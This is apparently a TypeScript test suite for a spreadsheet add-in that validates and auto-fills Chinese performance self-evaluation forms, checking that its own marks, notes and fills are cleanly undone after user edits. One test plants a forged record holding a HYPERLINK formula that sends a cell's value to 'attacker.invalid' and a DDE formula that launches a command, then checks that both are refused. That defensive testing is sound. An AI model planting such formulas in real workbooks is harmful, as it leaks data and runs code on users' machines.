import { readFileSync } from "fs";
import { join } from "path";
import {
  FILL_NOTE_PREFIX,
  NOTE_PREFIX,
  type CellAt,
  type CellValue,
  type Report,
  type Severity,
  type WorkbookGrid,
} from "../../src/engine";
import { DEFAULT_SETTINGS, type PaneSettings, type TakeBackOutcome } from "../../src/app/host";
import { encodeRecord } from "../../src/app/ownership/recordCodec";
import { EMPTY_REVIEWS, reviewsNow, withFindingReview, withFormReview, type Reviews } from "../../src/app/review/decision";
import { rowKey } from "../../src/app/ownership/rowKey";
import { layoutSeedForms } from "../../src/sample/seedLayout";
import { seedRows } from "../../src/sample/seedText";
import { OPINION_SHEET } from "../../src/app/review/opinionSheet";
import type { ScenarioDriver } from "./driver";

/**
 * Issue 8's scenario suite: the user acts between two of our actions, and every host must then take back exactly what
 * it put there. Each scenario runs twice side by side: `live` gets our actions and the user's, `twin` only the user's.
 * After our take-backs the two must look the same to the user — every value, formula, format, fill and note.
 */

export const SHEET = "自评表";
const seedText = readFileSync(join(__dirname, "../../assets/sample/seed-changji-2021.txt"), "utf8");

export const OTHER_SHEET = "填报说明";

/**
 * The bundled seed (six forms) with four scores of the first form emptied, so that 填充得分 has work, and a sheet of
 * the user's own beside it that no action of ours may touch.
 */
export function scenarioWorkbook(): WorkbookGrid {
  const sheet = layoutSeedForms(seedRows(seedText), { sheet: SHEET, typed: true });
  for (const row of [13, 14, 17, 21]) sheet.values[row][7] = null;
  const other = {
    name: OTHER_SHEET,
    originRow: 0,
    originCol: 0,
    values: [
      ["填报人", "张三"],
      ["联系电话", "0994-1234567"],
      ["得分", 10],
    ],
  };
  return { sheets: [sheet, other] };
}

const settings: PaneSettings = { ...DEFAULT_SETTINGS, mark: ["error", "warning"], notes: true };
const at = (row: number, col = 7): CellAt => ({ sheet: SHEET, row, col });
/** The first form's filled score cells (H14, H15, H18) and its 总分 (H22). */
const FILLED = [13, 14, 17];

const plain = (v: CellValue | undefined) => (v === "" || v === undefined ? null : v);

/** What the user sees of the workbook: every non-empty cell with its formula and format, its own fill and its note. */
function userState(d: ScenarioDriver, sheetName?: (name: string) => string): string[] {
  const out: string[] = [];
  for (const s of d.look.grid().sheets)
    s.values.forEach((row, i) =>
      row.forEach((v, j) => {
        const cell = { sheet: s.name, row: s.originRow + i, col: s.originCol + j };
        const formula = s.formulas?.[i]?.[j] ?? null;
        const format = s.numberFormats?.[i]?.[j] ?? null;
        const state = [
          plain(v),
          formula?.startsWith("=") ? formula : null,
          format === "General" ? null : format,
          d.look.color(cell),
          d.look.note(cell),
        ];
        if (state.some((x) => x !== null)) out.push(JSON.stringify([sheetName ? sheetName(s.name) : s.name, cell.row, cell.col, ...state]));
      }),
    );
  return out.sort();
}

function ourNotes(d: ScenarioDriver) {
  return d.look.notes().filter((n) => n.text.startsWith(NOTE_PREFIX));
}

function fillNotes(d: ScenarioDriver) {
  return d.look.notes().filter((n) => n.text.startsWith(FILL_NOTE_PREFIX));
}

/** The first cell a 校验 marks, and the mark it gets. */
function firstMarked(report: Report): { cell: CellAt; severity: Severity } {
  const f = report.issues.find((x) => settings.mark.includes(x.severity));
  if (!f) throw new Error("the scenario workbook has no finding to mark");
  const cell = { sheet: f.sheet, row: f.row - 1, col: f.col - 1 };
  const severity = report.issues.some((x) => x.sheet === f.sheet && x.row === f.row && x.col === f.col && x.severity === "error")
    ? "error"
    : f.severity;
  return { cell, severity };
}

const cellsOf = (o: TakeBackOutcome) => o.leftAlone.map((x) => `${x.sheet}!${x.cell}:${x.reason}`).sort();

export function describeScenarios(name: string, make: (workbook: WorkbookGrid) => ScenarioDriver): void {
  describe(`${name}: what people do between two clicks`, () => {
    let live: ScenarioDriver;
    let twin: ScenarioDriver;
    beforeEach(() => {
      live = make(scenarioWorkbook());
      twin = make(scenarioWorkbook());
    });
    const both = (act: (d: ScenarioDriver) => void) => {
      act(live);
      act(twin);
    };
    const clearAll = async () => {
      const marks = await live.host().clearMarks();
      const fills = await live.host().undoFill();
      return { marks, fills };
    };

    it("校验 draws marks over the user's own fill without changing it; 清除标记 leaves the workbook as it was", async () => {
      const report = await twin.host().check(settings);
      const { cell: marked, severity } = firstMarked(report);
      await twin.host().clearMarks();
      both((d) => d.user.setColor(marked, "#00B050"));
      both((d) => d.user.setNote(at(30, 8), "用户自己的批注"));
      await live.host().check(settings);
      expect(live.look.mark(marked)).toBe(severity);
      expect(live.look.color(marked)).toBe("#00B050");
      expect(live.look.markedCells()).toBeGreaterThan(0);
      if (live.addsNotes === false) expect(ourNotes(live)).toEqual([]);
      else expect(ourNotes(live).length).toBeGreaterThan(0);
      const outcome = await live.host().clearMarks();
      expect(outcome.leftAlone).toEqual([]);
      expect(live.look.markedCells()).toBe(0);
      expect(ourNotes(live)).toEqual([]);
      expect(userState(live)).toEqual(userState(twin));
      expect(await live.host().state()).toEqual({ marks: 0, fills: 0 });
    });

    it("a second 校验 replaces the first one's marks and notes, never doubling them", async () => {
      await live.host().check(settings);
      const marks = live.look.markedCells();
      const notes = ourNotes(live).length;
      await live.host().check(settings);
      expect(live.look.markedCells()).toBe(marks);
      expect(ourNotes(live)).toHaveLength(notes);
      await live.host().check({ ...settings, notes: false });
      expect(ourNotes(live)).toEqual([]);
      await live.host().clearMarks();
      expect(userState(live)).toEqual(userState(twin));
    });

    it("填充得分 then 撤销填充 puts back exactly what the cells held", async () => {
      const written = await live.host().fill(settings, false);
      expect(written).toBeGreaterThanOrEqual(FILLED.length);
      for (const r of FILLED) expect(typeof live.look.grid().sheets[0].values[r][7]).toBe("number");
      expect((await live.host().state()).fills).toBe(written);
      const outcome = await live.host().undoFill();
      expect(outcome).toEqual({ restored: written, leftAlone: [] });
      expect(userState(live)).toEqual(userState(twin));
    });

    it("填充得分 marks each score it wrote and notes its arithmetic; 校验 and 清除标记 keep them; 撤销填充 takes them back", async () => {
      const written = await live.host().fill(settings, false);
      expect(live.look.filledCells()).toBe(written);
      for (const r of FILLED) {
        expect(live.look.filled(at(r))).toBe(true);
        // The reasoning behind the score, which ends in the score written ("9 / 12 × 5 = 3.75", "…得满分 10").
        const score = String(live.look.grid().sheets[0].values[r][7]);
        if (live.addsNotes !== false)
          expect(live.look.note(at(r))?.startsWith(FILL_NOTE_PREFIX) && live.look.note(at(r))?.endsWith(score)).toBe(true);
      }
      const notes = fillNotes(live);
      expect(notes).toHaveLength(live.addsNotes === false ? 0 : written);
      await live.host().check(settings);
      await live.host().check(settings);
      expect(live.look.filledCells()).toBe(written);
      expect(fillNotes(live)).toEqual(notes);
      await live.host().clearMarks();
      expect(live.look.markedCells()).toBe(0);
      expect(live.look.filledCells()).toBe(written);
      expect(fillNotes(live)).toEqual(notes);
      expect(await live.host().undoFill()).toEqual({ restored: written, leftAlone: [] });
      expect(live.look.filledCells()).toBe(0);
      expect(fillNotes(live)).toEqual([]);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("the reviewer's decisions survive 填充得分, 校验, 清除标记 and 撤销填充", async () => {
      const reviews = {
        findings: [
          {
            key: "missing-reason|项目|指标:产出指标/数量指标/套数",
            values: "缺少偏差原因",
            decision: "accept" as const,
            note: "已电话核实",
            at: "2026-03-04T08:00:00.000Z",
          },
        ],
        forms: [{ form: "项目", decision: "revise" as const, note: "请补充偏差原因", at: "2026-03-04T08:00:00.000Z" }],
      };
      await live.host().saveReviews(reviews);
      await live.host().fill(settings, false);
      await live.host().check(settings);
      await live.host().clearMarks();
      await live.host().undoFill();
      expect(await live.host().loadReviews()).toEqual(reviews);
    });

    it("a filled score retyped, and our note on another edited: 撤销填充 takes back our mark and our exact notes only", async () => {
      await live.host().fill(settings, false);
      both((d) => d.user.setValue(at(13), 9.5));
      const ours = live.look.note(at(14));
      if (ours !== null) both((d) => d.user.setNote(at(14), `${ours}\n已核实`));
      const outcome = await live.host().undoFill();
      expect(cellsOf(outcome)).toEqual(ours === null ? [`${SHEET}!H14:changed`] : [`${SHEET}!H14:changed`, `${SHEET}!H15:unrecorded`]);
      expect(live.look.filledCells()).toBe(0);
      expect(live.look.note(at(14))).toBe(ours === null ? null : `${ours}\n已核实`);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a note the user wrote on an empty score cell is kept: the score is marked, no note of ours goes over it", async () => {
      both((d) => d.user.setNote(at(13), "用户自己的批注：待评"));
      await live.host().fill(settings, false);
      expect(live.look.filled(at(13))).toBe(true);
      expect(live.look.note(at(13))).toBe("用户自己的批注：待评");
      await live.host().undoFill();
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a score retyped by hand survives 撤销填充 and is listed; the other fills go back", async () => {
      await live.host().fill(settings, false);
      both((d) => d.user.setValue(at(13), 9.5));
      const outcome = await live.host().undoFill();
      expect(cellsOf(outcome)).toEqual([`${SHEET}!H14:changed`]);
      expect(userState(live)).toEqual(userState(twin));
      expect((await live.host().state()).fills).toBe(0);
    });

    it.each([
      ["two rows inserted above the form", (d: ScenarioDriver) => d.user.insertRows(SHEET, 0, 2)],
      ["a row inserted inside the indicator block", (d: ScenarioDriver) => d.user.insertRows(SHEET, 15, 1)],
      ["the indicator rows sorted", (d: ScenarioDriver) => d.user.sortRows(SHEET, 13, [20, 19, 18, 17, 16, 15, 14, 13])],
    ])("%s: marks, notes and fills are still taken back in full", async (_, act) => {
      await live.host().check(settings);
      await live.host().fill(settings, false);
      both(act);
      const { marks, fills } = await clearAll();
      expect(marks.leftAlone).toEqual([]);
      expect(fills.leftAlone).toEqual([]);
      expect(live.look.markedCells()).toBe(0);
      expect(ourNotes(live)).toEqual([]);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a filled row deleted: the other fills go back, the user's cells stay, nothing is written in the wrong row", async () => {
      await live.host().fill(settings, false);
      both((d) => d.user.deleteRows(SHEET, 14, 1));
      const outcome = await live.host().undoFill();
      expect(outcome.leftAlone).toHaveLength(1);
      expect(outcome.leftAlone[0].reason).toBe("changed");
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a row deleted above the fills: a cell that now holds the same number from another row is not emptied", async () => {
      await live.host().fill(settings, false);
      // H14 and H15 were both filled with 10; with the blank row 13 gone, H14's address holds H15's score and H15's
      // address holds the unit's own 10 of H16. Taken back by address, the unit's score would be lost.
      both((d) => d.user.deleteRows(SHEET, 12, 1));
      const outcome = await live.host().undoFill();
      expect(outcome.leftAlone).toEqual([]);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a renamed sheet: 清除标记 and 撤销填充 still find everything", async () => {
      await live.host().check(settings);
      await live.host().fill(settings, false);
      both((d) => d.user.renameSheet(SHEET, "自评表（修订）"));
      const { marks, fills } = await clearAll();
      expect([...marks.leftAlone, ...fills.leftAlone]).toEqual([]);
      expect(fills.restored).toBeGreaterThanOrEqual(FILLED.length);
      expect(live.look.markedCells()).toBe(0);
      expect(ourNotes(live)).toEqual([]);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a marked cell re-coloured by the user keeps the user's colour after 清除标记 and after a new 校验", async () => {
      const marked = firstMarked(await live.host().check(settings)).cell;
      both((d) => d.user.setColor(marked, "#92D050"));
      await live.host().check(settings);
      expect(live.look.color(marked)).toBe("#92D050");
      await live.host().clearMarks();
      expect(userState(live)).toEqual(userState(twin));
    });

    it("the user's own note, and a note of ours the user edited, are never deleted; the edited one is listed", async () => {
      const report = await live.host().check(settings);
      const notes = ourNotes(live);
      if (live.addsNotes === false) {
        expect(notes).toEqual([]);
        both((d) => d.user.setNote(at(2, 8), "用户自己的批注"));
        await live.host().check(settings);
        expect((await live.host().clearMarks()).leftAlone).toEqual([]);
        expect(userState(live)).toEqual(userState(twin));
        return;
      }
      expect(notes.length).toBeGreaterThan(1);
      const edited = notes[0];
      const editedAt = { sheet: edited.sheet, row: edited.row, col: edited.col };
      live.user.setNote(editedAt, `${edited.text}\n已核实：单位已补充说明。`);
      twin.user.setNote(editedAt, `${edited.text}\n已核实：单位已补充说明。`);
      const unmarkedNoteAt = at(2, 8);
      both((d) => d.user.setNote(unmarkedNoteAt, "用户自己的批注"));
      expect(report.issues.length).toBeGreaterThan(0);
      const again = await live.host().check(settings);
      expect(again.notices.some((n) => n.messages.zh.includes("已被修改"))).toBe(true);
      expect(live.look.note(editedAt)).toBe(`${edited.text}\n已核实：单位已补充说明。`);
      const outcome = await live.host().clearMarks();
      expect(outcome.leftAlone.map((x) => x.what)).toEqual(["note"]);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a note the user wrote on a cell before 校验 is kept, and no note of ours is added over it", async () => {
      const { cell: marked, severity } = firstMarked(await twin.host().check(settings));
      await twin.host().clearMarks();
      both((d) => d.user.setNote(marked, "用户自己的批注：请复核"));
      await live.host().check(settings);
      expect(live.look.note(marked)).toBe("用户自己的批注：请复核");
      expect(live.look.mark(marked)).toBe(severity);
      await live.host().clearMarks();
      expect(userState(live)).toEqual(userState(twin));
    });

    it("Ctrl+Z after 填充得分 (cells back, record not): 撤销填充 then changes nothing the user typed since", async () => {
      await live.host().fill(settings, false);
      live.user.undoLastWrite();
      both((d) => d.user.setValue(at(13), 7));
      const outcome = await live.host().undoFill();
      expect(cellsOf(outcome)).toEqual([`${SHEET}!H14:changed`]);
      expect(userState(live)).toEqual(userState(twin));
      expect((await live.host().state()).fills).toBe(0);
    });

    it.each([
      ["on the same machine", false],
      ["on another machine", true],
    ])("saved and reopened %s: everything is still taken back", async (_, elsewhere) => {
      await live.host().check(settings);
      await live.host().fill(settings, false);
      live.user.reopen(elsewhere);
      twin.user.reopen(elsewhere);
      expect((await live.host().state()).fills).toBeGreaterThanOrEqual(FILLED.length);
      const { marks, fills } = await clearAll();
      expect([...marks.leftAlone, ...fills.leftAlone]).toEqual([]);
      expect(live.look.markedCells()).toBe(0);
      expect(ourNotes(live)).toEqual([]);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a record forged inside a received workbook writes no formula and empties no cell that is not a score we wrote", async () => {
      const sheetId = "forged";
      const grid = live.look.grid().sheets[0];
      const aim = (row: number, col: number, before: { value: string | number | null; formula: string | null }) => ({
        sheetId,
        row,
        col,
        wrote: { value: grid.values[row][col] as number, numberFormat: null },
        before: { ...before, numberFormat: null },
        rowKey: rowKey(grid, row, col),
      });
      const forged = encodeRecord({
        version: 3,
        reviews: { findings: [], forms: [] },
        sheets: [{ id: sheetId, name: SHEET }],
        // A budget zeroed, a weight replaced by a link, a reported score replaced by a DDE formula.
        values: [
          aim(5, 3, { value: 0, formula: null }),
          aim(13, 6, { value: null, formula: '=HYPERLINK("http://attacker.invalid/?d="&B2,"核对")' }),
          aim(15, 7, { value: null, formula: "=cmd|' /C calc'!A0" }),
        ],
        notes: [],
      });
      both((d) => d.user.plantRecord(forged));
      expect((await live.host().state()).fills).toBe(3);
      const outcome = await live.host().undoFill();
      expect(outcome.restored).toBe(0);
      expect(outcome.leftAlone.map((x) => x.reason)).toEqual(["unsafe", "unsafe", "unsafe"]);
      expect(userState(live)).toEqual(userState(twin));
    });

    it.each([
      ["not a record at all", "SELFEVAL-RECORD/2 00000000 4\nAAAA"],
      ["an old version", "<changeRecord>{}</changeRecord>"],
    ])("a record that fails validation (%s) is never acted on, and the pane is told", async (_, text) => {
      both((d) => d.user.plantRecord(text));
      const state = await live.host().state();
      expect(state.recordProblem?.zh).toBeTruthy();
      const outcome = await live.host().undoFill();
      expect(outcome.restored).toBe(0);
      expect(outcome.recordProblem?.zh).toBeTruthy();
      expect(userState(live)).toEqual(userState(twin));
    });

    /** A reviewer's decisions on the first marked finding, the total mismatch, and the first form. */
    const decide = (report: Report): Reviews => {
      const marked = report.issues.find((x) => settings.mark.includes(x.severity))!;
      const total = report.issues.find((x) => x.code === "total-mismatch")!;
      const when = new Date("2026-11-30T08:00:00Z");
      let r = withFindingReview(EMPTY_REVIEWS, report, marked, "accept", "单位已说明", when);
      r = withFindingReview(r, report, total, "ignore", "", when);
      return withFormReview(r, report, 0, "revise", "请更正总分", when);
    };
    /** The decisions as they stand against a report: what each decided finding and form shows. */
    const shown = (report: Report, reviews: Reviews) => {
      const now = reviewsNow(report, reviews);
      return {
        findings: report.issues.flatMap((f, i) => {
          const x = now.findings[i];
          return x ? [`${f.code}:${x.decision}:${x.note}:${x.changed}`] : [];
        }),
        forms: now.forms.flatMap((x, i) => (x ? [`${i}:${x.decision}:${x.notes}`] : [])),
      };
    };

    it.each([
      ["on the same machine", false],
      ["on another machine", true],
    ])("decisions survive 校验 again, 清除标记, 填充得分 and 撤销填充, save and reopen %s", async (_, elsewhere) => {
      const reviews = decide(await live.host().check(settings));
      await live.host().saveReviews(reviews);
      expect(await live.host().loadReviews()).toEqual(reviews);
      const expected = shown(await live.host().check(settings), reviews);
      expect(expected.findings).toHaveLength(2);
      expect(expected.forms).toEqual(["0:revise:请更正总分"]);
      const steps: [string, () => Promise<unknown>][] = [
        ["清除标记", () => live.host().clearMarks()],
        ["填充得分", () => live.host().fill(settings, false)],
        ["校验", () => live.host().check(settings)],
        ["撤销填充", () => live.host().undoFill()],
        ["reopen", async () => live.user.reopen(elsewhere)],
        ["清除标记 after reopen", () => live.host().clearMarks()],
      ];
      for (const [step, act] of steps) {
        await act();
        expect([step, await live.host().loadReviews()]).toEqual([step, reviews]);
      }
      twin.user.reopen(elsewhere);
      expect(shown(await live.host().check(settings), await live.host().loadReviews())).toEqual(expected);
      // Decisions change no cell: once our marks are gone the workbook looks as the twin's.
      await live.host().clearMarks();
      expect(userState(live)).toEqual(userState(twin));
      expect(await live.host().state()).toEqual({ marks: 0, fills: 0 });
    });

    it("decisions stored before any 校验 are kept, and a value changed since shows 情况已变化", async () => {
      const report = await twin.host().check(settings);
      await twin.host().clearMarks();
      const reviews = decide(report);
      await live.host().saveReviews(reviews);
      const total = report.issues.find((x) => x.code === "total-mismatch")!;
      // The unit corrects one indicator score only: the total still disagrees, with other values.
      both((d) => d.user.setValue({ sheet: total.sheet, row: total.row - 1, col: total.col - 1 }, 95));
      const now = shown(await live.host().check(settings), await live.host().loadReviews());
      expect(now.findings.find((x) => x.startsWith("total-mismatch:"))).toBe("total-mismatch:ignore::true");
      await live.host().clearMarks();
      expect(userState(live)).toEqual(userState(twin));
    });

    it("a refused record gives no decisions; storing decisions then replaces it, and the pane is told no more", async () => {
      both((d) => d.user.plantRecord("SELFEVAL-RECORD/3 00000000 4\nAAAA"));
      expect((await live.host().state()).recordProblem?.zh).toBeTruthy();
      expect(await live.host().loadReviews()).toEqual(EMPTY_REVIEWS);
      const reviews = decide(await twin.host().check(settings));
      await twin.host().clearMarks();
      await live.host().saveReviews(reviews);
      expect(await live.host().state()).toEqual({ marks: 0, fills: 0 });
      expect(await live.host().loadReviews()).toEqual(reviews);
      live.user.reopen();
      expect(await live.host().loadReviews()).toEqual(reviews);
      expect(userState(live)).toEqual(userState(twin));
    });

    it("审核意见 is written with the stored decisions, and a second export replaces our own sheet", async () => {
      const report = await live.host().check(settings);
      await live.host().saveReviews(decide(report));
      await live.host().exportOpinionSheet(report, "zh");
      await live.host().exportOpinionSheet(report, "zh");
      const sheets = live.look.grid().sheets.filter((x) => x.name.startsWith(OPINION_SHEET));
      expect(sheets.map((x) => x.name)).toEqual([OPINION_SHEET]);
      const texts = sheets[0].values.flat().filter((v): v is string => typeof v === "string");
      expect(texts.filter((t) => t === "项目支出绩效自评审核意见")).toHaveLength(report.tables.length);
      expect(texts).toContain("审核结论：□ 通过　☑ 退回修改　□ 待定");
      expect(texts).toContain("请更正总分");
      expect(texts.filter((t) => t.startsWith("另有 "))).toEqual(["另有 2 条问题经审核不再要求更正（接受 1 条，忽略 1 条）。"]);
      expect(await live.host().loadReviews()).toEqual(decide(report));
    });

    it("a record whose sheet was deleted keeps its entries, says so, and touches no other sheet", async () => {
      await live.host().fill(settings, false);
      both((d) => d.user.deleteSheet(SHEET));
      const outcome = await live.host().undoFill();
      expect(outcome.restored).toBe(0);
      expect(outcome.leftAlone.length).toBeGreaterThanOrEqual(FILLED.length);
      expect(new Set(outcome.leftAlone.map((x) => x.reason))).toEqual(new Set(["sheet-missing"]));
      expect((await live.host().state()).fills).toBe(outcome.leftAlone.length);
      expect(userState(live)).toEqual(userState(twin));
    });
  });
}
